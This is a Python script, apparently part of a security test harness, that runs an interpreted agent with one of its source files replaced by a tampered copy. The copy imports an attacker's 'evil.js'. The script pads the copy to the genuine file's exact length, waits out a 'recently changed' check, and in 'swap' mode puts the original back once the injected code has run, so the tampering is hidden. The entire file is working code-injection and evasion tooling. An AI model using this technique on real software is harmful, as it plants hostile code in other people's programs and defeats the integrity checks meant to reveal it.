"""Runs an interpreted agent with one of its files replaced: ``replaced_file.py keep|swap FILE COMMAND ...``.

keep: the file stays replaced while the agent runs. swap: as soon as the foreign code runs, the genuine file is back.
The foreign file has the genuine one's length, and nothing else of the package is touched.
"""

import os
import subprocess
import sys
import time
from pathlib import Path

import attacker

SETTLED_S = 0.5  # a file that was changed just before the start is refused for that alone


def main(how: str, file: Path, command: list[str]) -> None:
    loot = Path(attacker.SET["LOOT"])
    aside = loot / "genuine"
    changed = with_foreign_code(file.read_text())
    file.rename(aside)
    file.write_text(changed)
    if how == "keep":
        time.sleep(SETTLED_S)
    environment = {**os.environ, "ATTACK_DELAY_S": "1" if how == "swap" else "0"}
    with subprocess.Popen(command, env=environment) as started:
        while how == "swap" and started.poll() is None and not has_begun(loot / "log"):
            time.sleep(0.01)
        if how == "swap":
            aside.rename(file)
    if how == "keep":
        aside.rename(file)


def with_foreign_code(genuine: str) -> str:
    """Return a module that also loads the attacker's; indentation makes place for it."""
    lines = genuine.splitlines()
    shebang = [lines.pop(0)] if lines[0].startswith("#!") else []
    load = f'import "{Path(__file__).with_name("evil.js")}";'
    changed = "\n".join([*shebang, load, *(line.lstrip() for line in lines)])
    if len(changed) >= len(genuine):
        sys.exit("the file has too little indentation")
    return changed.ljust(len(genuine) - 1) + "\n"


def has_begun(log: Path) -> bool:
    return log.exists() and "ran: " in log.read_text()


main(sys.argv[1], Path(sys.argv[2]), sys.argv[3:])
